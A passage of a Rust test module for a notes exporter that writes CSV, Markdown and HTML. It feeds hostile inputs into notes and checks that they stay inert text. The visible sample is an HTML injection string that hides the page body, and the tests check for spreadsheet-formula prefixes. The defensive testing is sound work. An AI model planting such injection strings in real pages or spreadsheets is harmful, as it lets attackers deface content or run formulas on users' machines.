        "</blockquote></section><h1>fake</h1><!-- comment --><style>body{display:none}</style>",
    ];

    fn hostile_export(payload: &str) -> NativeExport {
        let a = seed();
        let (pid, _) = paragraph(&a, "Chiều 3.7");
        let mut target = a.paragraph_target(&pid).expect("paragraph");
        target.quote.exact = format!("{payload} — {}", target.quote.exact);
        NativeExport::new(
            ExportArticle {
                id: "a-x".into(),
                title: format!("Tiêu đề {payload}"),
                source: Some(payload.into()),
            },
            vec![note(1, target, payload, &[payload], Some(NoteColor::Pink))],
            Timestamp(T0),
        )
    }

    /// `s` with line breaks as LF, as the CSV keeps them.
    fn lf(s: &str) -> String {
        s.replace("\r\n", "\n")
            .replace(['\r', '\u{85}', '\u{2028}', '\u{2029}'], "\n")
    }

    /// `s` escaped for `format`, a Markdown block's lines after `block`.
    fn escaped(s: &str, format: PeopleFormat, block: Option<&str>) -> String {
        let mut out = String::new();
        escape(&mut out, s, format, block);
        out
    }

    #[test]
    fn hostile_notes_stay_text_in_every_format() {
        for &payload in HOSTILE {
            let export = hostile_export(payload);
            for lang in ["vi", "en"] {
                let csv = parse_csv(&write(&export, None, lang, PeopleFormat::Csv));
                assert_eq!(csv.len(), 2, "{payload:?}: one record");
                let formula = payload
                    .trim_start_matches(' ')
                    .starts_with(['=', '+', '-', '@', '\t', '\r']);
                let expect = if formula {
                    format!("'{}", lf(payload))
                } else {
                    lf(payload)
                };
                assert_eq!(csv[1][6], expect, "the note's text, guarded");
                assert_eq!(csv[1][2], expect, "the source, guarded");
                for field in &csv[1] {
                    assert!(
                        !field
                            .trim_start_matches(' ')
                            .starts_with(['=', '+', '-', '@', '\t', '\r']),
                        "{payload:?}: a field a spreadsheet would evaluate: {field:?}"
                    );
                }
                let md = write(&export, None, lang, PeopleFormat::Markdown);
                assert_markdown_safe(&md);
                let html = write(&export, None, lang, PeopleFormat::Html);
                assert_html_safe(&html);
                assert_contains(&html, &[&escaped(payload, PeopleFormat::Html, None)]);
            }
        }
    }

    #[test]
    fn markdown_keeps_the_text_readable() {
        for (text, expect) in [
            ("Chiều 3.7, ông A", "Chiều 3.7, ông A"),
            ("xem baohaiduong.vn", "xem baohaiduong\\.vn"),
            ("1. đầu tiên", "1\\. đầu tiên"),
            ("- gạch", "\\- gạch"),
            ("a-b+c=d", "a-b+c=d"),
            ("[x](y)", "\\[x\\](y)"),
            ("https://x", "https\\://x"),
            ("a@b", "a\\@b"),
            ("<b>", "\\<b\\>"),
            ("    thụt lề", "thụt lề"),
        ] {
            assert_eq!(
                escaped(text, PeopleFormat::Markdown, None),
                expect,
                "{text:?}"
            );
        }
        assert_eq!(
            escaped("một\r\nhai\n\n\n  ba\n", PeopleFormat::Markdown, Some("> ")),
            "một\\\n> hai\n>\n> ba",
            "hard breaks, one paragraph break, no indentation"
        );
        assert_eq!(
            escaped("một\nhai", PeopleFormat::Markdown, None),
            "một hai",
            "one line"
        );
        assert_eq!(
            escaped("a\r\nb\u{2028}c", PeopleFormat::Html, None),
            "a\nb\nc"
        );
        assert_eq!(
            escaped("a\u{202e}b", PeopleFormat::Markdown, None),
            "\u{2068}a\u{202e}b\u{2069}",
            "bidi controls isolated"
        );
    }

    #[test]
    fn a_20000_character_note_is_whole_in_every_format() {
        let long: String = "Đảng".repeat(5_000);
        let export = hostile_export(&long);
        for format in [
            PeopleFormat::Markdown,
            PeopleFormat::Csv,
            PeopleFormat::Html,
        ] {
            let out = write(&export, None, "vi", format);
            assert!(
                out.matches(long.as_str()).count() >= 2,
                "{format:?}: the text and the tag, whole"
            );
        }
    }

    #[test]
    fn no_notes_gives_a_header_and_a_message() {
        let a = seed();
        let mut export = sample(&a);
        export.annotations.clear();
        let csv = parse_csv(&write(&export, Some(&a), "en", PeopleFormat::Csv));
        assert_eq!(csv.len(), 1);
        assert_eq!(
            csv[0][..5],
            ["#", "Article", "Source", "Published", "Attached to"]
        );
        assert_contains(
            &write(&export, Some(&a), "en", PeopleFormat::Markdown),
            &["No notes yet."],
        );
        assert_contains(
            &write(&export, Some(&a), "vi", PeopleFormat::Html),
            &["Chưa có ghi chú nào."],
        );
    }

    #[test]
    fn times_in_each_language() {
        for (iso, vi, en) in [
            (
                "2020-07-03T19:09:13",
                "03/07/2020 19:09",
                "3 Jul 2020, 19:09",
            ),
            (
                "2026-11-28T08:05:00.000Z",
                "28/11/2026 08:05",
                "28 Nov 2026, 08:05",
            ),
            ("2020-12-31", "31/12/2020", "31 Dec 2020"),
            ("2020-13-01", "01/13/2020", "01/13/2020"),
            ("not a date", "not a date", "not a date"),
            ("", "", ""),
        ] {
            assert_eq!(VI.time(iso), vi, "{iso}");
            assert_eq!(EN.time(iso), en, "{iso}");
        }
        assert!(
            std::ptr::eq(labels("en-GB"), &EN)
                && std::ptr::eq(labels("vi"), &VI)
                && std::ptr::eq(labels("fr"), &VI)
        );
    }
}
